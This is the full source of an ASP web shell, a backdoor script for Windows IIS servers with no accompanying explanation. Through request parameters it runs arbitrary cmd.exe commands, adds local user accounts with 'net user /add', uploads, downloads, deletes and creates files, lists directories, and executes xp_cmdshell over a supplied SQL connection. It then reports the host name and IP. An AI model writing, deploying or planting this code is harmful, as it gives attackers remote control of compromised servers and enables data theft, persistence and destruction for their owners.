<%
Server.ScriptTimeout = 99999
Set fso = Server.CreateObject("Scripting.FileSystemObject")
Set sh = Server.CreateObject("WScript.Shell")
Set app = Server.CreateObject("Shell.Application")
Set net = Server.CreateObject("WScript.Network")
Select Case Request("a")
  Case "cmd"
    Response.Write sh.Exec("cmd.exe /c " & Request("c")).StdOut.ReadAll
  Case "user"
    sh.Run "cmd.exe /c net user " & Request("u") & " /add", 0, True
  Case "up"
    Set st = Server.CreateObject("ADODB.Stream")
    st.Type = 1 : st.Open : st.Write Request.BinaryRead(Request.TotalBytes)
    st.SaveToFile Request("p"), 2
  Case "down"
    Set st = Server.CreateObject("ADODB.Stream")
    st.Type = 1 : st.Open : st.LoadFromFile Request("p")
    Response.BinaryWrite st.Read
  Case "del"
    fso.DeleteFile Request("p")
  Case "new"
    fso.CreateTextFile(Request("p")).Write Request("t")
  Case "ls"
    For Each f In fso.GetFolder(Request("p")).Files : Response.Write f.Name & "<br>" : Next
  Case "sql"
    Set cn = Server.CreateObject("ADODB.Connection")
    cn.Open Request("cs")
    cn.Execute "exec master..xp_cmdshell '" & Request("c") & "'"
End Select
Response.Write net.ComputerName & " " & Request.ServerVariables("LOCAL_ADDR")
%>
